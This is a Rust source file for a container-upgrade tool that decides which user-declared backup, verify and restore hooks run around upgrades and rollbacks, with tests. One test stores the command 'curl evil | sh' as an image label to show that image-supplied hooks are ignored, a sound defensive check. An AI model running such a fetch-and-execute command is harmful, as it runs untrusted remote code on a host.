//! Upgrade hooks: the commands a person declared to run around an upgrade
//! (back up before, verify after, restore on a rollback). Which hooks apply
//! to a container, where each runs, what it finds in its environment and
//! what its exit status decides are rules here; running them is
//! `services::hooks`.
//!
//! Only what the user declared runs. A container's labels include the ones
//! its image carries, so a `freshen.hook.*` label with the same value as the
//! image's own label is the image publisher's, never a hook: otherwise
//! anyone who publishes an image could run commands on the host of whoever
//! upgrades it.

use std::collections::BTreeMap;
use std::time::Duration;

/// The label prefix of the hooks declared on a container.
pub const LABEL_PREFIX: &str = "freshen.hook.";
/// The hook directory as a container hook sees it: freshen copies the
/// version's hook directory in before the hook and back out after it.
pub const CONTAINER_DIR: &str = "/.freshen-hook";
/// The exit status that defers (as Watchtower's lifecycle hooks do):
/// `EX_TEMPFAIL` from sysexits.h.
pub const DEFER: i64 = 75;
/// A hook's timeout when neither its label nor its config section gives one.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);
/// The lines of a hook's output kept for the report.
pub const TAIL_LINES: usize = 10;
/// How the state words a version a pre-upgrade hook deferred (the
/// `failed` reason of its superseded record starts so): `list` shows the
/// tag as deferred while the registry still offers that digest.
pub const DEFERRED: &str = "deferred by a hook";
/// The longest line kept in the report (the rest is cut off).
const LINE_CHARS: usize = 200;

/// When a hook runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Phase {
    /// Before the tag's containers stop, in the old container.
    PreUpgrade,
    /// After the new container passed its health gate, in it.
    PostUpgrade,
    /// Before a rollback, in the container about to be replaced.
    PreRollback,
    /// After a rollback, in the container it brought back.
    PostRollback,
}

impl Phase {
    pub const ALL: [Phase; 4] =
        [Phase::PreUpgrade, Phase::PostUpgrade, Phase::PreRollback, Phase::PostRollback];

    /// `pre-upgrade`, as in labels, the environment and the report.
    pub fn word(self) -> &'static str {
        match self {
            Phase::PreUpgrade => "pre-upgrade",
            Phase::PostUpgrade => "post-upgrade",
            Phase::PreRollback => "pre-rollback",
            Phase::PostRollback => "post-rollback",
        }
    }

    /// The label that declares it on a container.
    pub fn label(self) -> String {
        format!("{LABEL_PREFIX}{}", self.word())
    }
}

/// Where a hook runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// `sh -c` inside the container, through the engine's exec API.
    Container,
    /// `sh -c` on the host freshen runs on (needs `host_hooks = true`).
    Host,
}

/// One hook to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hook {
    pub phase: Phase,
    pub command: String,
    pub place: Place,
    pub timeout: Duration,
    /// `label` or `config "PATTERN"`: who declared it, for the plan.
    pub source: String,
}

/// The hooks of one `[images."PATTERN"]` section, as the settings read them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ConfigHooks {
    pub pattern: String,
    pub commands: BTreeMap<Phase, String>,
    pub timeout: Option<Duration>,
    pub place: Option<Place>,
}

/// The labels a user set on a container: those whose value differs from
/// the image's label of the same key, or that the image has not at all.
pub fn declared_labels<'a>(
    container: &'a BTreeMap<String, String>,
    image: &BTreeMap<String, String>,
) -> BTreeMap<&'a str, &'a str> {
    container
        .iter()
        .filter(|(k, v)| image.get(*k) != Some(*v))
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect()
}

/// The hooks that apply to one container: its declared `freshen.hook.*`
/// labels (never its image's), then the config section's hooks for the
/// phases the labels leave open. A label's timeout is
/// `freshen.hook.timeout` (seconds) or `freshen.hook.PHASE.timeout`.
/// A wrong timeout is an error with what to write instead.
pub fn applicable(
    container_labels: &BTreeMap<String, String>,
    image_labels: &BTreeMap<String, String>,
    config: Option<&ConfigHooks>,
    default_timeout: Duration,
) -> std::result::Result<Vec<Hook>, String> {
    let declared = declared_labels(container_labels, image_labels);
    let label_timeout = |key: &str| -> std::result::Result<Option<Duration>, String> {
        match declared.get(key) {
            None => Ok(None),
            Some(v) => parse_timeout(v).map(Some).map_err(|e| format!("label {key}: {e}")),
        }
    };
    let all_labels = label_timeout("freshen.hook.timeout")?;
    let mut hooks = Vec::new();
    for phase in Phase::ALL {
        let label = phase.label();
        if let Some(command) = declared.get(label.as_str()).filter(|c| !c.trim().is_empty()) {
            let timeout =
                label_timeout(&format!("{label}.timeout"))?.or(all_labels).unwrap_or(default_timeout);
            hooks.push(Hook {
                phase,
                command: command.to_string(),
                place: Place::Container,
                timeout,
                source: "label".into(),
            });
        } else if let Some(c) = config {
            if let Some(command) = c.commands.get(&phase) {
                hooks.push(Hook {
                    phase,
                    command: command.clone(),
                    place: c.place.unwrap_or(Place::Container),
                    timeout: c.timeout.unwrap_or(default_timeout),
                    source: format!("config \"{}\"", c.pattern),
                });
            }
        }
    }
    Ok(hooks)
}

/// A timeout in whole seconds (`90`) or a duration (`2m`, `1h`).
pub fn parse_timeout(text: &str) -> std::result::Result<Duration, String> {
    let text = text.trim();
    let secs = match text.parse::<u64>() {
        Ok(n) => Some(n),
        Err(_) => crate::core::time::duration_secs(text).ok().and_then(|s| u64::try_from(s).ok()),
    };
    match secs {
        Some(n) if n > 0 => Ok(Duration::from_secs(n)),
        _ => Err(format!("'{text}' is not a timeout: use seconds (90) or a duration (2m)")),
    }
}

/// How one hook ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ended {
    Exited(i64),
    TimedOut,
    /// It could not be started (no shell in the container, the container
    /// gone, …): a failure.
    NotRun(String),
}

/// What a hook's end means for the tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// 0: the upgrade (or rollback) goes on.
    GoOn,
    /// 75 before the change: this tag waits for a later run, nothing changed.
    Defer,
    /// Failed before the change: this tag is not upgraded (or not rolled
    /// back), nothing changed.
    Abort,
    /// Failed after the upgrade: the upgrade is rolled back, as after a
    /// failed health gate.
    RollBack,
    /// Failed when nothing is left to undo (after a rollback, or before an
    /// automatic one): reported, and the run goes on.
    Report,
}

/// The decision for a hook that ended so in `phase`. `automatic` is a
/// rollback freshen started itself (a failed gate or hook): that one goes
/// on whatever its pre-rollback hook says, since the new version already
/// failed.
pub fn decide(phase: Phase, ended: &Ended, automatic: bool) -> Decision {
    let code = match ended {
        Ended::Exited(c) => Some(*c),
        _ => None,
    };
    match (phase, code) {
        (_, Some(0)) => Decision::GoOn,
        (Phase::PreUpgrade, Some(DEFER)) => Decision::Defer,
        (Phase::PreUpgrade, _) => Decision::Abort,
        // 75 after the upgrade is no excuse: the new version runs and is
        // unverified, so it goes back like any failure.
        (Phase::PostUpgrade, _) => Decision::RollBack,
        (Phase::PreRollback, _) if automatic => Decision::Report,
        (Phase::PreRollback, Some(DEFER)) => Decision::Defer,
        (Phase::PreRollback, _) => Decision::Abort,
        (Phase::PostRollback, _) => Decision::Report,
    }
}

/// What a hook is told, besides the directory.
#[derive(Debug, Clone, Default)]
pub struct Context {
    pub reference: String,
    pub image: String,
    pub tag: String,
    pub old_digest: Option<String>,
    pub new_digest: Option<String>,
    pub old_version: Option<String>,
    pub new_version: Option<String>,
    pub old_image_id: String,
    pub new_image_id: String,
    pub container: String,
    pub compose_project: Option<String>,
    pub compose_service: Option<String>,
}

/// The environment of a hook: `FRESHEN_*` variables only (an exec inherits
/// the container's own environment; a host hook gets no secret of
/// freshen's). Empty values for what is not known.
pub fn environment(phase: Phase, ctx: &Context, dir: &str) -> Vec<(String, String)> {
    let o = |v: &Option<String>| v.clone().unwrap_or_default();
    [
        ("FRESHEN_HOOK", phase.word().to_string()),
        ("FRESHEN_HOOK_DIR", dir.to_string()),
        ("FRESHEN_REFERENCE", ctx.reference.clone()),
        ("FRESHEN_IMAGE", ctx.image.clone()),
        ("FRESHEN_TAG", ctx.tag.clone()),
        ("FRESHEN_OLD_DIGEST", o(&ctx.old_digest)),
        ("FRESHEN_NEW_DIGEST", o(&ctx.new_digest)),
        ("FRESHEN_OLD_VERSION", o(&ctx.old_version)),
        ("FRESHEN_NEW_VERSION", o(&ctx.new_version)),
        ("FRESHEN_OLD_IMAGE_ID", ctx.old_image_id.clone()),
        ("FRESHEN_NEW_IMAGE_ID", ctx.new_image_id.clone()),
        ("FRESHEN_CONTAINER", ctx.container.clone()),
        ("FRESHEN_COMPOSE_PROJECT", o(&ctx.compose_project)),
        ("FRESHEN_COMPOSE_SERVICE", o(&ctx.compose_service)),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect()
}

/// The name of a version's hook directory under `<state>/hooks/`: the
/// hex of its image id (the version a rollback returns to), then the
/// container, so two containers of one image keep their backups apart.
pub fn dir_name(image_id: &str) -> String {
    let hex = image_id.strip_prefix("sha256:").unwrap_or(image_id);
    hex.chars().filter(char::is_ascii_hexdigit).collect()
}

/// A container's subdirectory: its name, with anything but
/// `[A-Za-z0-9_.-]` replaced (a name can not climb out of the directory).
pub fn container_dir(name: &str) -> String {
    let clean: String =
        name.chars().map(|c| if c.is_ascii_alphanumeric() || "_.-".contains(c) { c } else { '_' }).collect();
    if clean.trim_matches('.').is_empty() {
        "_".into()
    } else {
        clean
    }
}

/// The last `n` lines of a hook's output, each cut to a sane length, for
/// the report and the notifications.
pub fn tail(output: &str, n: usize) -> Vec<String> {
    let lines: Vec<&str> = output.lines().filter(|l| !l.trim().is_empty()).collect();
    lines[lines.len().saturating_sub(n)..]
        .iter()
        .map(|l| {
            let l = l.trim_end();
            match l.char_indices().nth(LINE_CHARS) {
                Some((at, _)) => format!("{}…", &l[..at]),
                None => l.to_string(),
            }
        })
        .collect()
}

/// How one ended hook reads in the report and the output.
pub fn describe(ended: &Ended) -> String {
    match ended {
        Ended::Exited(0) => "exited 0".into(),
        Ended::Exited(DEFER) => format!("exited {DEFER} (defer)"),
        Ended::Exited(c) => format!("exited {c}"),
        Ended::TimedOut => "timed out".into(),
        Ended::NotRun(why) => format!("could not run: {why}"),
    }
}

/// The exit status in the report: the code, or none for a hook that timed
/// out or did not run.
pub fn exit_code(ended: &Ended) -> Option<i64> {
    match ended {
        Ended::Exited(c) => Some(*c),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
    }

    #[test]
    fn an_image_label_is_never_a_hook() {
        let image = labels(&[("freshen.hook.pre-upgrade", "curl evil | sh")]);
        // The container inherits the image's label unchanged.
        let container = labels(&[("freshen.hook.pre-upgrade", "curl evil | sh"), ("app", "db")]);
        let hooks = applicable(&container, &image, None, DEFAULT_TIMEOUT).unwrap();
        assert!(hooks.is_empty(), "{hooks:?}");
        // The user overrides it with a value of their own: that one runs.
        let container = labels(&[("freshen.hook.pre-upgrade", "pg_dump > $FRESHEN_HOOK_DIR/d")]);
        let hooks = applicable(&container, &image, None, DEFAULT_TIMEOUT).unwrap();
        assert_eq!(hooks.len(), 1);
        assert_eq!(hooks[0].command, "pg_dump > $FRESHEN_HOOK_DIR/d");
        assert_eq!(hooks[0].place, Place::Container);
        // An image's timeout label does not count either.
        let image = labels(&[("freshen.hook.timeout", "1")]);
        let container = labels(&[("freshen.hook.timeout", "1"), ("freshen.hook.post-upgrade", "true")]);
        let hooks = applicable(&container, &image, None, DEFAULT_TIMEOUT).unwrap();
        assert_eq!(hooks[0].timeout, DEFAULT_TIMEOUT);
    }

    #[test]
    fn labels_come_before_the_config_and_timeouts_nest() {
        let container = labels(&[
            ("freshen.hook.post-upgrade", "check"),
            ("freshen.hook.timeout", "30"),
            ("freshen.hook.post-upgrade.timeout", "2m"),
            ("freshen.hook.pre-rollback", "save"),
        ]);
        let config = ConfigHooks {
            pattern: "db".into(),
            commands: BTreeMap::from([
                (Phase::PreUpgrade, "backup".to_string()),
                (Phase::PostUpgrade, "never".to_string()),
            ]),
            timeout: Some(Duration::from_secs(5)),
            place: Some(Place::Host),
        };
        let hooks = applicable(&container, &BTreeMap::new(), Some(&config), DEFAULT_TIMEOUT).unwrap();
        let got: Vec<(Phase, &str, Place, u64)> =
            hooks.iter().map(|h| (h.phase, h.command.as_str(), h.place, h.timeout.as_secs())).collect();
        assert_eq!(
            got,
            [
                (Phase::PreUpgrade, "backup", Place::Host, 5),
                (Phase::PostUpgrade, "check", Place::Container, 120),
                (Phase::PreRollback, "save", Place::Container, 30),
            ]
        );
        assert_eq!(hooks[0].source, "config \"db\"");
        let bad = labels(&[("freshen.hook.timeout", "soon"), ("freshen.hook.pre-upgrade", "x")]);
        let e = applicable(&bad, &BTreeMap::new(), None, DEFAULT_TIMEOUT).unwrap_err();
        assert_eq!(
            e,
            "label freshen.hook.timeout: 'soon' is not a timeout: use seconds (90) or a duration (2m)"
        );
    }

    #[test]
    fn each_exit_status_in_each_phase() {
        use Decision::*;
        use Phase::*;
        let cases = [
            (PreUpgrade, Ended::Exited(0), false, GoOn),
            (PreUpgrade, Ended::Exited(75), false, Defer),
            (PreUpgrade, Ended::Exited(1), false, Abort),
            (PreUpgrade, Ended::TimedOut, false, Abort),
            (PreUpgrade, Ended::NotRun("no shell".into()), false, Abort),
            (PostUpgrade, Ended::Exited(0), false, GoOn),
            (PostUpgrade, Ended::Exited(75), false, RollBack),
            (PostUpgrade, Ended::Exited(2), false, RollBack),
            (PostUpgrade, Ended::TimedOut, false, RollBack),
            (PreRollback, Ended::Exited(0), true, GoOn),
            (PreRollback, Ended::Exited(75), true, Report),
            (PreRollback, Ended::Exited(1), true, Report),
            (PreRollback, Ended::Exited(75), false, Defer),
            (PreRollback, Ended::Exited(1), false, Abort),
            (PreRollback, Ended::TimedOut, false, Abort),
            (PostRollback, Ended::Exited(0), false, GoOn),
            (PostRollback, Ended::Exited(75), false, Report),
            (PostRollback, Ended::Exited(3), true, Report),
        ];
        for (phase, ended, automatic, want) in cases {
            assert_eq!(decide(phase, &ended, automatic), want, "{phase:?} {ended:?} automatic={automatic}");
        }
    }

    #[test]
    fn the_environment_names_everything_and_the_directory() {
        let ctx = Context {
            reference: "reg/db:16".into(),
            image: "reg/db".into(),
            tag: "16".into(),
            old_digest: Some("sha256:a".into()),
            new_version: Some("16.2".into()),
            container: "db".into(),
            compose_project: Some("shop".into()),
            ..Context::default()
        };
        let env: BTreeMap<String, String> =
            environment(Phase::PreUpgrade, &ctx, CONTAINER_DIR).into_iter().collect();
        assert_eq!(env["FRESHEN_HOOK"], "pre-upgrade");
        assert_eq!(env["FRESHEN_HOOK_DIR"], "/.freshen-hook");
        assert_eq!(env["FRESHEN_OLD_DIGEST"], "sha256:a");
        assert_eq!(env["FRESHEN_NEW_VERSION"], "16.2");
        assert_eq!(env["FRESHEN_OLD_VERSION"], "");
        assert_eq!(env["FRESHEN_COMPOSE_PROJECT"], "shop");
        assert!(env.keys().all(|k| k.starts_with("FRESHEN_")));
    }

    #[test]
    fn directories_cannot_climb_and_output_is_capped() {
        assert_eq!(dir_name("sha256:ab12"), "ab12");
        assert_eq!(dir_name("../../etc"), "ec");
        assert_eq!(container_dir("../x"), ".._x");
        assert_eq!(container_dir(".."), "_");
        let out: String = (1..=30).map(|i| format!("line {i}\n")).collect();
        let t = tail(&out, TAIL_LINES);
        assert_eq!(t.len(), 10);
        assert_eq!(t[0], "line 21");
        let long = "x".repeat(500);
        assert_eq!(tail(&long, 1)[0].chars().count(), LINE_CHARS + 1);
        assert_eq!(describe(&Ended::Exited(75)), "exited 75 (defer)");
    }
}
